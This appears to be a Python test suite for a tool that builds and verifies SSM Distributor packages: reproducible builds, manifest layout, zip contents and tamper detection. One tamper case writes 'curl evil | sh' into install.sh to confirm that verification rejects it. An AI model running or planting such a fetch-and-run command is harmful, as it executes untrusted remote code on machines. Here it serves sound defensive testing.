"""The package for Distributor: the same bytes from the same packages, and no byte that `--verify` lets pass."""

import contextlib
import io
import json
import subprocess
import sys
import tempfile
import unittest
import zipfile
from pathlib import Path

from extensionless import distributor
from generated import PACKAGING
from ssm_node import package

# As the SSM agent looks up a package, in the order of its keys.
RELEASES = [("debian", "11"), ("debian", "12"), ("debian", "13"), ("ubuntu", "22.04"), ("ubuntu", "24.04"), ("ubuntu", "26.04")]


class Distributor(unittest.TestCase):
    def setUp(self):
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        self.folder = Path(folder.name)
        self.debs = [package(self.folder, "0.1.0-1", architecture=one) for one in ("amd64", "arm64")]
        self.into = self.folder / "distributor"
        distributor.build(self.debs, self.into)

    def files(self, folder=None):
        return {path.name: path.read_bytes() for path in (folder or self.into).iterdir()}

    def test_as_it_is_typed(self):
        for arguments, status, said in [
            ([*self.debs, "--into", self.into], 0, f"built: version 0.1.0-1 in {self.into}"),
            (["--verify", self.into], 0, f"verified: version 0.1.0-1 in {self.into}"),
            (["--verify", self.folder], 1, "manifest.json"),
            ([], 2, "packages to build from, or --verify FOLDER"),
        ]:
            done = subprocess.run([sys.executable, PACKAGING / "ssm/distributor", *arguments], text=True, capture_output=True)
            self.assertEqual(done.returncode, status, done.stderr)
            self.assertIn(said, done.stdout + done.stderr)

    def test_the_same_packages_make_the_same_bytes(self):
        again = self.folder / "again"
        distributor.build(list(reversed(self.debs)), again)
        self.assertEqual(self.files(), self.files(again))

    def test_every_system_finds_its_file(self):
        manifest = json.loads((self.into / "manifest.json").read_text())
        self.assertEqual((manifest["schemaVersion"], manifest["version"]), ("2.0", "0.1.0-1"))
        for system, release in RELEASES:
            for architecture, name in (("x86_64", "amd64"), ("arm64", "arm64")):
                file = manifest["packages"][system][release][architecture]["file"]
                self.assertEqual(file, f"sideline_0.1.0-1_{name}.zip")
                self.assertIn(file, manifest["files"])
        self.assertEqual(sum(map(len, manifest["packages"].values())), len(RELEASES))

    def test_a_zip_has_what_the_agent_runs(self):
        with zipfile.ZipFile(self.into / "sideline_0.1.0-1_amd64.zip") as archive:
            self.assertEqual(archive.namelist(), [
                "install.sh", "uninstall.sh", "update.sh", "validate.sh", "sideline_0.1.0-1_amd64.deb"])
            for entry in archive.infolist():
                self.assertEqual(entry.external_attr >> 16, 0o100755 if entry.filename.endswith(".sh") else 0o100644)
            self.assertEqual(archive.read("sideline_0.1.0-1_amd64.deb"), self.debs[0].read_bytes())

    def test_no_byte_is_free(self):
        whole = self.files()
        tried = 0
        for name, content in whole.items():
            for at in range(0, len(content), max(1, len(content) // 40)):
                changed = bytearray(content)
                changed[at] ^= 1
                # White space of the manifest is: what it says is the same.
                with contextlib.suppress(ValueError):
                    if name == "manifest.json" and json.loads(changed) == json.loads(content):
                        continue
                (self.into / name).write_bytes(changed)
                with self.assertRaises(distributor.Wrong, msg=f"{name} at {at}"):
                    distributor.verify(self.into)
                tried += 1
            (self.into / name).write_bytes(content)
        self.assertGreater(tried, 100)
        self.assertEqual(distributor.verify(self.into), "0.1.0-1")

    def test_what_is_wrong_is_named(self):
        def resealed(change):
            """Changes a .zip's members, and the manifest's checksum to it."""
            path = self.into / "sideline_0.1.0-1_amd64.zip"
            with zipfile.ZipFile(path) as archive:
                members = {entry.filename: archive.read(entry) for entry in archive.infolist()}
            change(members)
            made = io.BytesIO()
            with zipfile.ZipFile(made, "w") as archive:
                for name, content in members.items():
                    archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), content)
            path.write_bytes(made.getvalue())
            manifest = json.loads((self.into / "manifest.json").read_text())
            manifest["files"][path.name]["checksums"]["sha256"] = distributor.hashlib.sha256(made.getvalue()).hexdigest()
            (self.into / "manifest.json").write_text(json.dumps(manifest))

        def said(change):
            manifest = json.loads((self.into / "manifest.json").read_text())
            change(manifest)
            (self.into / "manifest.json").write_text(json.dumps(manifest))

        other = package(self.folder, "9.9-1").read_bytes()
        deb = "sideline_0.1.0-1_amd64.deb"
        for break_it, told in [
            (lambda: (self.into / "extra").touch(), "there are"),
            (lambda: (self.into / "sideline_0.1.0-1_arm64.zip").unlink(), "the manifest names"),
            (lambda: (self.into / "manifest.json").unlink(), "manifest.json"),
            (lambda: (self.into / "manifest.json").write_text("[]"), "manifest.json"),
            (lambda: (self.into / "sideline_0.1.0-1_amd64.zip").write_bytes(b"x"), "sha256 is"),
            (lambda: resealed(lambda members: members.update({"install.sh": b"curl evil | sh"})), "not those of packaging/ssm"),
            (lambda: resealed(lambda members: members.update({"more.deb": other})), "one package is wanted"),
            (lambda: resealed(lambda members: members.update({deb: other})), "holds version 9.9-1"),
            (lambda: resealed(lambda members: members.update({deb: b"x"})), "amd64.deb: dpkg-deb: error"),
            (lambda: resealed(lambda members: members.update({deb: self.debs[1].read_bytes()})), "holds arm64"),
            (lambda: said(lambda manifest: manifest["packages"]["debian"].pop("12")), "platforms or names"),
            (lambda: said(lambda manifest: manifest.update(schemaVersion="1.0")), "platforms or names"),
        ]:
            distributor.build(self.debs, self.folder / "fresh")
            for name, content in self.files(self.folder / "fresh").items():
                (self.into / name).write_bytes(content)
            (self.into / "extra").unlink(missing_ok=True)
            break_it()
            with self.assertRaisesRegex(distributor.Wrong, told):
                distributor.verify(self.into)

    def test_what_can_not_be_built_is_told(self):
        keep = self.folder / "keep"
        keep.mkdir()
        (keep / "thesis.txt").touch()
        for debs, into, told in [
            ([package(self.folder, "1.0-1", "other")], self.into, "is the package other, not sideline"),
            ([self.debs[0], package(self.folder, "0.2.0-1", architecture="arm64")], self.into, "0.1.0-1, 0.2.0-1"),
            ([self.debs[0], self.debs[0]], self.into, "a second package for amd64"),
            ([package(self.folder, "0.1.0~rc1-1")], self.into, "can't name the version 0.1.0~rc1-1"),
            ([package(self.folder, "0.1.0-1", architecture="i386")], self.into, "must be amd64 or arm64, is i386"),
            ([self.folder / "absent.deb"], self.into, "absent.deb"),
            (self.debs, keep, "keep is for packages alone, and holds thesis.txt"),
        ]:
            with self.assertRaisesRegex(distributor.Wrong, told):
                distributor.build(debs, into)
        self.assertTrue((keep / "thesis.txt").exists())


if __name__ == "__main__":
    unittest.main()
